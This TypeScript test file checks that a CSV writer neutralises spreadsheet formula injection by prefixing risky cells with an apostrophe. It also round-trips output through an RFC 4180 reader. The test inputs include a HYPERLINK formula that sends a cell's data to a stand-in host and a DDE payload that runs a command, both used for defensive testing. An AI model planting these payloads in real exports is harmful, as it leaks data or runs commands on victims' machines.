/**
 * [ASVS V1.2.10, V5.3.10] Every reader reads the CSV back, and no spreadsheet runs a formula of it.
 */
import assert from 'node:assert/strict'
import fc from '../../protocol/testing/properties.ts'
import t from 'tap'
import { csvOf, type Cell } from './csv.ts'

async function* batchesOf<R>(...batches: R[][]): AsyncGenerator<R[]> {
  yield* batches
}

async function written(rows: Cell[][], bom = false, batch = 2): Promise<string> {
  const batches = Array.from({ length: Math.ceil(rows.length / batch) }, (_, i) =>
    rows.slice(i * batch, (i + 1) * batch),
  )
  const columns = ['a', 'b,"c"'].map((heading, i) => ({ heading, of: (row: Cell[]) => row[i]! }))
  const chunks: Uint8Array[] = []
  for await (const chunk of csvOf(columns, batchesOf(...batches), { bom })) chunks.push(chunk)
  return Buffer.concat(chunks).toString('utf8')
}

/** A reader by the grammar of RFC 4180, independent of the writer. */
function read(text: string): string[][] {
  const rows: string[][] = []
  let [row, cell, quoted, at]: [string[], string, boolean, number] = [[], '', false, 0]
  for (; at < text.length; at++) {
    const char = text[at]!
    if (quoted) {
      if (char !== '"') cell += char
      else if (text[at + 1] === '"') {
        cell += '"'
        at++
      } else quoted = false
    } else if (char === '"' && cell === '') quoted = true
    else if (char === ',') {
      row.push(cell)
      cell = ''
    } else if (char === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell])
      ;[row, cell] = [[], '']
      at++
    } else {
      assert.ok(char !== '"' && char !== '\n' && char !== '\r', 'a raw quote or line end')
      cell += char
    }
  }
  assert.ok(!quoted && cell === '' && row.length === 0, 'the last line ends')
  return rows
}

t.test('formulas are made harmless, and numbers stay unchanged', async t => {
  for (const [given, expected] of [
    ['=1+1', "'=1+1"],
    ['+1 555 0100', "'+1 555 0100"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    [
      '=HYPERLINK("https://evil.example/?"&A1,"x")',
      '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
    ],
    ['\u{ff1d}1+1', "'\u{ff1d}1+1"],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    [-2.5, '-2.5'],
    [12, '12'],
    [0, '0'],
    [null, ''],
    ['', ''],
    ['a=b', 'a=b'],
    ['née "Ødegård", 北京 😀', 'née "Ødegård", 北京 😀'],
  ] as const)
    t.equal(read(await written([[given, 'x']]))[1]![0], expected, JSON.stringify(given))
  t.same(read(await written([])), [['a', 'b,"c"']], 'an empty table has its headings')
})

t.test('the mark of UTF-8 comes once, at the beginning, when it is wanted', async t => {
  const text = await written(
    [
      ['1', '2'],
      ['3', '4'],
      ['5', '6'],
    ],
    true,
  )
  t.equal(text.indexOf('\u{feff}'), 0)
  t.equal(text.lastIndexOf('\u{feff}'), 0)
  t.equal((await written([], true)).indexOf('\u{feff}'), 0)
  t.notOk((await written([['1', '2']])).includes('\u{feff}'))
})

t.test('a reader gets back the written table, except for added apostrophes', async () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', '=', "'", ';', ' ', '\t', '-', 'a') }),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(text, text), { maxLength: 8 }), async rows => {
      const back = read(await written(rows, false, 3)).slice(1)
      assert.equal(back.length, rows.length)
      for (const [i, row] of rows.entries())
        for (const [j, cell] of row.entries()) {
          const shown = back[i]![j]!
          assert.ok(shown === cell || shown === `'${cell}`, JSON.stringify([cell, shown]))
          assert.ok(!/^[=+\-@\t\r]/.test(shown))
        }
    }),
    { numRuns: 500 },
  )
})
